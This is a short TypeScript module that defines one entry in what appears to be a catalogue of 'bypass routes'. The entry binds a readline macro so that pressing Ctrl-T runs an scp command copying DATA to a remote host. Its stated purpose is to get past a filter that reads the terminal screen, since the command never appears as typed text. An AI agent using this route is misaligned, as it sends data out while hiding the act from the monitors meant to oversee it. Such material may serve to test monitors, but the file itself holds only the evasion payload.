import type { BypassRoute } from '../route.ts';

export const route: BypassRoute = {
  kind: 'terminal',
  name: 'by a macro of readline',
  source: 'terminal routes past a filter that reads the screen',
  keys: ['bind \'"\\C-t": "scp DATA host:\\C-m"\'\r', '\u0014'],
};
